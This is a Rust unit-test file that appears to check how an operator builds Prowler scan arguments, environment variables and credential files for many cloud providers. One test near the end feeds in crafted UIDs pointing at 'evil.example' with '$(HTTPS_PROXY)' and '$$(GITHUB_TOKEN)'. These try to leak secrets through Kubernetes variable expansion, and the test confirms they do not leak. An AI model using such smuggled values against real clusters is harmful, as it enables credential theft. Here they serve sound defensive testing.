use super::*;
use crate::api::provider::CredentialsType;

const ROUTINE: &str = "--ignore-exit-code-3 --output-formats json-ocsf --output-directory /prowler/output \
                       --output-filename scan --no-banner --no-color";

fn by_secret(kind: CredentialsType, keys: &[&str]) -> Access {
    Access {
        kind: Some(kind),
        secret: Some("keys".into()),
        keys: keys.iter().map(|key| (*key).to_owned()).collect(),
        ..Access::default()
    }
}

fn by_service_account() -> Access {
    Access {
        service_account: Some("scanner".into()),
        ..Access::default()
    }
}

fn run(provider: ProviderType, uid: &str, access: &Access) -> Invocation {
    let account = Account::parse(provider, uid).unwrap();
    invocation(&account, &ScanSettings::default(), access)
}

/// The arguments without those that every scan has.
fn args(run: &Invocation) -> String {
    let all = run.args.join(" ");
    all.strip_suffix(ROUTINE)
        .unwrap_or_else(|| panic!("{all}"))
        .trim()
        .to_owned()
}

fn env(run: &Invocation) -> Vec<String> {
    run.env
        .iter()
        .map(|variable| match &variable.value {
            Value::Text(text) => format!("{}={text}", variable.name),
            Value::Key(key) => format!("{}<{key}", variable.name),
        })
        .collect()
}

#[test]
fn aws_with_keys() {
    let access = by_secret(
        CredentialsType::Static,
        &["aws_access_key_id", "aws_secret_access_key"],
    );
    let run = run(ProviderType::Aws, "123456789012", &access);
    assert_eq!(args(&run), "aws");
    assert_eq!(
        env(&run),
        [
            "AWS_EC2_METADATA_DISABLED=true",
            "AWS_ACCESS_KEY_ID<aws_access_key_id",
            "AWS_SECRET_ACCESS_KEY<aws_secret_access_key",
        ]
    );
}

#[test]
fn aws_by_a_role_whose_names_come_from_the_secret_as_one_argument_each() {
    let access = Access {
        service_account: Some("scanner".into()),
        ..by_secret(
            CredentialsType::Role,
            &["role_arn", "external_id", "session_duration"],
        )
    };
    let run = run(ProviderType::Aws, "123456789012", &access);
    assert_eq!(
        args(&run),
        "aws --role=$(PROWLER_OPERATOR_ROLE_ARN) --external-id=$(PROWLER_OPERATOR_EXTERNAL_ID) \
         --session-duration=$(PROWLER_OPERATOR_SESSION_DURATION)"
    );
    assert!(env(&run).contains(&"PROWLER_OPERATOR_ROLE_ARN<role_arn".to_owned()));
    assert_eq!(run.service_account.as_deref(), Some("scanner"));
}

#[test]
fn kubernetes_by_kubeconfig_and_in_its_own_cluster() {
    let access = by_secret(CredentialsType::Static, &["kubeconfig_content"]);
    let by_file = run(ProviderType::Kubernetes, "admin@prod", &access);
    assert_eq!(
        args(&by_file),
        "kubernetes --kubeconfig-file /prowler/credentials/kubeconfig --context admin@prod"
    );
    assert_eq!(
        by_file.files,
        [SecretFile {
            key: "kubeconfig_content".into(),
            name: "kubeconfig".into()
        }]
    );
    let inside = run(
        ProviderType::Kubernetes,
        "this-cluster",
        &by_service_account(),
    );
    assert_eq!(args(&inside), "kubernetes --cluster-name this-cluster");
}

#[test]
#[expect(clippy::too_many_lines, reason = "a table")]
fn each_other_type_is_told_its_account_and_its_keys() {
    use CredentialsType::{ServiceAccount, Static};
    let none = Access::default();
    let cases: &[(ProviderType, &str, Access, &str, &[&str])] = &[
        (
            ProviderType::Azure,
            "3f2504e0-4f89-41d3-9a0c-0305e82c3301",
            by_secret(Static, &["client_id", "client_secret", "tenant_id"]),
            "azure --sp-env-auth --subscription-ids 3f2504e0-4f89-41d3-9a0c-0305e82c3301",
            &[
                "AZURE_POD_IDENTITY_AUTHORITY_HOST=http://127.0.0.1:9",
                "AZURE_CLIENT_ID<client_id",
                "AZURE_CLIENT_SECRET<client_secret",
                "AZURE_TENANT_ID<tenant_id",
            ],
        ),
        (
            ProviderType::Azure,
            "3f2504e0-4f89-41d3-9a0c-0305e82c3301",
            by_service_account(),
            "azure --managed-identity-auth --subscription-ids 3f2504e0-4f89-41d3-9a0c-0305e82c3301",
            &["AZURE_POD_IDENTITY_AUTHORITY_HOST=http://127.0.0.1:9"],
        ),
        (
            ProviderType::Gcp,
            "my-project-1",
            by_secret(ServiceAccount, &["service_account_key"]),
            "gcp --credentials-file /prowler/credentials/service-account.json --project-ids my-project-1",
            &[],
        ),
        (
            ProviderType::M365,
            "contoso.com",
            by_secret(Static, &["client_id", "tenant_id", "certificate_content"]),
            "m365 --certificate-auth",
            &[
                "AZURE_CLIENT_ID<client_id",
                "AZURE_TENANT_ID<tenant_id",
                "M365_CERTIFICATE_CONTENT<certificate_content",
            ],
        ),
        (
            ProviderType::Github,
            "my-organisation",
            by_secret(Static, &["personal_access_token"]),
            "github --organizations my-organisation",
            &["GITHUB_PERSONAL_ACCESS_TOKEN<personal_access_token"],
        ),
        (
            ProviderType::Iac,
            "https://example.com/r.git",
            none.clone(),
            "iac --scan-repository-url https://example.com/r.git --provider-uid https://example.com/r.git",
            &[],
        ),
        (
            ProviderType::Mongodbatlas,
            "5f43a7b2c9d8e1f0a1b2c3d4",
            by_secret(Static, &["atlas_public_key", "atlas_private_key"]),
            "mongodbatlas",
            &[
                "ATLAS_PUBLIC_KEY<atlas_public_key",
                "ATLAS_PRIVATE_KEY<atlas_private_key",
            ],
        ),
        (
            ProviderType::Cloudflare,
            "372e67954025e0ba6aaa6d586b9e0b59",
            by_secret(Static, &["api_token"]),
            "cloudflare --account-id 372e67954025e0ba6aaa6d586b9e0b59",
            &["CLOUDFLARE_API_TOKEN<api_token"],
        ),
        (
            ProviderType::Openstack,
            "demo",
            by_secret(Static, &["clouds_yaml_content", "clouds_yaml_cloud"]),
            "openstack --clouds-yaml-file /prowler/credentials/clouds.yaml \
             --clouds-yaml-cloud=$(PROWLER_OPERATOR_CLOUDS_YAML_CLOUD)",
            &["PROWLER_OPERATOR_CLOUDS_YAML_CLOUD<clouds_yaml_cloud"],
        ),
        (
            ProviderType::Vercel,
            "team_aBcDeFgHiJkLmNoP",
            by_secret(Static, &["api_token"]),
            "vercel",
            &[
                "VERCEL_TOKEN<api_token",
                "VERCEL_TEAM=team_aBcDeFgHiJkLmNoP",
            ],
        ),
        (
            ProviderType::Okta,
            " Acme.okta.com",
            by_secret(Static, &["okta_client_id", "okta_private_key"]),
            "okta --okta-org-domain acme.okta.com",
            &[
                "OKTA_CLIENT_ID<okta_client_id",
                "OKTA_PRIVATE_KEY<okta_private_key",
            ],
        ),
        (
            ProviderType::Image,
            "nginx:1.27",
            none.clone(),
            "image --image nginx:1.27",
            &[],
        ),
        (
            ProviderType::Image,
            "registry.example.com",
            none,
            "image --registry registry.example.com",
            &[],
        ),
    ];
    for (provider, uid, access, wanted, variables) in cases {
        let run = run(*provider, uid, access);
        assert_eq!(args(&run), *wanted);
        assert_eq!(env(&run), *variables, "{provider}");
    }
}

#[test]
fn keys_of_one_file_are_named_together_and_the_flag_once() {
    let access = by_secret(
        CredentialsType::Static,
        &["client_id", "client_secret", "refresh_token"],
    );
    let run = run(ProviderType::Gcp, "my-project-1", &access);
    assert_eq!(
        args(&run),
        "gcp --credentials-file /prowler/credentials/application-default.json \
         --project-ids my-project-1"
    );
    let composed = run.composed.unwrap();
    assert_eq!(composed.composition, Composition::GcpUser);
    assert_eq!(
        composed.keys,
        ["client_id", "client_secret", "refresh_token"]
    );
    assert_eq!((run.files, run.env), (vec![], vec![]));
}

#[test]
fn webhooks_are_told_of_pods_that_want_their_own_identity_and_of_no_other() {
    use crate::domain::credentials::ways;
    for provider in ProviderType::ALL {
        for way in ways(provider) {
            let run = run(provider, provider.uid_rule().example, &way.access);
            let wanted: &[_] = match provider {
                _ if way.access.kind.is_some() => &[],
                ProviderType::Azure => &[("azure.workload.identity/use", "true")],
                ProviderType::Alibabacloud => &[("pod-identity.alibabacloud.com/injection", "on")],
                _ => &[],
            };
            assert_eq!(run.pod_labels, wanted, "{provider} {}", way.name);
        }
    }
}

#[test]
fn an_image_uid_is_a_registry_as_prowler_sees_it() {
    for registry in [
        "registry.example.com",
        "registry.example.com:5000",
        "ghcr.io/organisation",
        "localhost:5000/x",
    ] {
        assert!(is_registry(registry), "{registry}");
    }
    for image in [
        "nginx",
        "nginx:1.27",
        "library/nginx",
        "ghcr.io/o/app",
        "ghcr.io/app:1",
        "ghcr.io/app@sha256:0",
    ] {
        assert!(!is_registry(image), "{image}");
    }
}

#[test]
fn the_scope_becomes_flags_and_an_empty_list_none() {
    let list = |items: &[&str]| Some(items.iter().map(|item| (*item).to_owned()).collect());
    let account = Account::parse(ProviderType::Aws, "123456789012").unwrap();
    let settings = ScanSettings {
        services: list(&["s3", "iam"]),
        severities: Some(vec![Severity::Critical, Severity::High]),
        excluded_checks: list(&["s3_bucket_kms_encryption"]),
        excluded_services: list(&["ec2"]),
        regions: list(&["eu-west-1", "eu-central-1"]),
        checks: list(&[]),
        image: Some("not-a-flag".into()),
        ..ScanSettings::default()
    };
    let run = invocation(&account, &settings, &by_service_account());
    assert_eq!(
        args(&run),
        "aws --service s3 iam --severity critical high --excluded-check s3_bucket_kms_encryption \
         --excluded-service ec2 --region eu-west-1 eu-central-1"
    );
}

/// What the kubelet makes of an argument or value: `$$` is a dollar, `$(NAME)` the variable, and
/// a name it does not know stays as it is (Kubernetes, "Define Dependent Environment Variables").
fn expanded(text: &str, variables: &[(&str, &str)]) -> String {
    let mut made = String::new();
    let mut rest = text;
    while let Some(at) = rest.find('$') {
        made.push_str(&rest[..at]);
        rest = &rest[at + 1..];
        if let Some(after) = rest.strip_prefix('$') {
            made.push('$');
            rest = after;
        } else if let Some((name, after)) = rest
            .strip_prefix('(')
            .and_then(|inner| inner.split_once(')'))
        {
            match variables.iter().find(|(known, _)| *known == name) {
                Some((_, value)) => made.push_str(value),
                None => made.extend(["$(", name, ")"]),
            }
            rest = after;
        } else {
            made.push('$');
        }
    }
    made + rest
}

#[test]
fn a_uid_that_names_a_variable_does_not_carry_its_value_away() {
    let variables = [
        ("HTTPS_PROXY", "http://user:hunter2@proxy"),
        ("GITHUB_TOKEN", "ghp_secret"),
    ];
    for uid in [
        "https://evil.example/$(HTTPS_PROXY)",
        "https://evil.example/$$(GITHUB_TOKEN)",
        "https://evil.example/$(HTTPS_PROXY)$$$(GITHUB_TOKEN)$",
    ] {
        let run = run(ProviderType::Iac, uid, &Access::default());
        let given: Vec<_> = run
            .args
            .iter()
            .map(|argument| expanded(argument, &variables))
            .collect();
        assert_eq!(given.iter().filter(|argument| *argument == uid).count(), 2);
        assert!(!given.iter().any(|argument| argument.contains("hunter2")));
        assert!(!given.iter().any(|argument| argument.contains("ghp_secret")));
    }
}

#[test]
fn values_of_the_secret_still_reach_the_arguments_that_want_them() {
    let access = by_secret(CredentialsType::Role, &["role_arn", "external_id"]);
    let run = run(ProviderType::Aws, "123456789012", &access);
    let variables = [("PROWLER_OPERATOR_ROLE_ARN", "arn:aws:iam::1:role/r")];
    let role = run
        .args
        .iter()
        .find(|argument| argument.starts_with("--role="))
        .unwrap();
    assert_eq!(expanded(role, &variables), "--role=arn:aws:iam::1:role/r");
}
